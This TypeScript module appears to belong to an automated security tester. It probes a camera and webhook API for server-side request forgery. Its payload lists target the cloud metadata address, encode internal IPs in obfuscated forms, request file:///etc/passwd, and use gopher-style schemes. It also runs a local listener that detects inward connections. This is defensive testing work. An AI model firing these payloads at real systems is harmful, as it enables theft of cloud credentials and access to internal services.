import { createServer, type AddressInfo } from 'node:net';
import { all, type Attack } from './attack';
import { json } from './requests';
import { idIn } from './row-attacks';
import type { Target } from './target';
import { toJson } from './values';

const innerHosts = [
  '169.254.169.254',
  '[fe80::1]',
  '[::ffff:169.254.169.254]',
  '0.0.0.0',
  '[::]',
  '2852039166',
  '0xa9fea9fe',
  '0251.0376.0251.0376',
  '169.254.169.254.',
  '224.0.0.1',
];

/** Addresses inside, by what the system opens for others: cameras and webhooks. */
export const innerAddresses: Attack = async ({ target, scene }) => {
  const post = (path: string, body: object) => ({
    operation: `POST /api/v1${path}`,
    method: 'POST',
    path: `/api/v1${path}`,
    headers: { ...scene.administrator, 'Content-Type': json },
    body: toJson(body),
  });
  const schemes = ['http', 'https', 'file', 'gopher', 'ftp', 'dict', 'nats', 'postgres'];
  const cameraUrls = [
    ...innerHosts.map((host) => `rtsp://${host}/latest/meta-data`),
    ...schemes.map((scheme) => `${scheme}://127.0.0.1:9/`),
  ];
  await all(cameraUrls, async (url) => {
    for (const request of [
      post('/cameras', { name: 'attack', rtsp_url: url }),
      post('/cameras/test-connection', { rtsp_url: url, timeout: 2 }),
    ]) {
      const received = await target.send(request);
      const isTaken = received?.status === 201 || received?.text.includes('"success":true') === true;
      if (isTaken) target.report(request, 'an address inside was taken');
    }
  });
  await webhooksInside(target, post);
};

async function webhooksInside(
  target: Target,
  post: (path: string, body: object) => Parameters<Target['send']>[0],
): Promise<void> {
  let connections = 0;
  const inner = createServer((socket) => {
    connections += 1;
    socket.destroy();
  });
  await new Promise<void>((resolve) => inner.listen(0, '127.0.0.1', resolve));
  const { port } = inner.address() as AddressInfo;
  const hosts = [...innerHosts, '127.0.0.1', 'localhost', '[::1]', '[::ffff:127.0.0.1]', '127.1', 'localhost.'];
  const urls = [...hosts.map((host) => `http://${host}:${port}/hook`), 'file:///etc/passwd', 'gopher://127.0.0.1:9/'];
  await all(urls, async (url) => {
    const received = await target.send(post('/webhooks', { url, types: ['person.recognized'] }));
    if (received?.status !== 201) return;
    const id = String(idIn(received));
    const test = post(`/webhooks/${id}/test`, {});
    await target.send({ ...test, operation: 'POST /api/v1/webhooks/{id}/test' });
  });
  if (connections > 0) target.report(post('/webhooks', {}), `${connections} connections came to an address inside`);
  await new Promise((resolve) => inner.close(resolve));
}
